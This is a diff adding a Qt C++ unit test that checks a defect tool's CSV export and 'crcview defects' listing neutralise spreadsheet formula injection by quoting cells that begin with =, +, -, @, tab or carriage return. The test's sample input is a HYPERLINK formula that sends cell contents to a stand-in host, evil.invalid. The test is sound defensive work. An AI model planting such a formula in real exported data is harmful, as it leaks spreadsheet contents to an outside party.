@@ -634,6 +634,53 @@ private Q_SLOTS:
                      qPrintable(out));
     }
 
+    // A cell that a spreadsheet would compute (=, +, -, @, a tab or a carriage return first)
+    // begins with a single quote, in the dock's CSV export and in crcview defects alike.
+    void csvCellsAreNeverFormulas()
+    {
+        const QString item = QStringLiteral("=HYPERLINK(\"https://evil.invalid/?leak=\"&A2,\"x\")");
+        const QString report = path(QStringLiteral("formula.crc"));
+        QVERIFY(writeFile(report, reportWith(item)));
+        QVERIFY(open(report));
+        configure(QStringLiteral("/bin/echo -2+3"), 60);
+        QVERIFY(
+            fileFromOutline({QStringLiteral("formula.crc"), QStringLiteral("src/main.c"), item}));
+        const QString csv = path(QStringLiteral("formula.csv"));
+        m_dialogs->files.append({csv});
+        QTableView* table = shownDock();
+        QCOMPARE(table->model()->rowCount(), 1);
+        QTest::mouseClick(dock()->exportButton(), Qt::LeftButton);
+        const QByteArray exported = readFile(csv);
+        QVERIFY2(exported.contains(
+                     ",\"'=HYPERLINK(\"\"https://evil.invalid/?leak=\"\"&A2,\"\"x\"\")\","),
+                 exported.constData());
+        QVERIFY2(exported.contains(",'-2+3,"), exported.constData());
+        const CrcviewRun listed =
+            runCrcview({QStringLiteral("defects"), QStringLiteral("--defects"), m_store}, 60000);
+        QCOMPARE(listed.status, 0);
+        QCOMPARE(listed.out.toUtf8(), exported);
+
+        // Every beginning a spreadsheet computes, in every text column.
+        const QString other = path(QStringLiteral("formulas.sqlite"));
+        Defect defect;
+        defect.headline = QStringLiteral("+1+1");
+        defect.description = QStringLiteral("@SUM(A1:A9)");
+        defect.itemPath = {QStringLiteral("\t=1")};
+        defect.file = QStringLiteral("\r=2");
+        DefectStore store(other);
+        const auto reference = [](qint64, QString* answer, QString*) {
+            *answer = QStringLiteral("-3");
+            return true;
+        };
+        QVERIFY2(store.file(defect, reference), qPrintable(store.errorString()));
+        const CrcviewRun all =
+            runCrcview({QStringLiteral("defects"), QStringLiteral("--defects"), other}, 60000);
+        QCOMPARE(all.status, 0);
+        QVERIFY2(all.out.contains(QStringLiteral(",open,'+1+1,'@SUM(A1:A9),'\t=1,\"'\r=2\",")),
+                 qPrintable(all.out));
+        QVERIFY2(all.out.contains(QStringLiteral(",'-3,")), qPrintable(all.out));
+    }
+
     void cleanupTestCase()
     {
         m_studio.reset();
